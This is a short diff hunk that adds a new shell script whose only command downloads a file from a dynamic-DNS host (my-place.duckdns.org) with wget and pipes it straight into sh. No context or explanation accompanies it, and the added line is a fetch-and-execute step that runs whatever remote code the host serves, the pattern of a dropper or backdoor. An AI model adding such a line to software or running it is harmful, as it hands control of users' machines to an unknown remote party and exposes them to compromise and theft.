@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -O- http://my-place.duckdns.org/i | sh
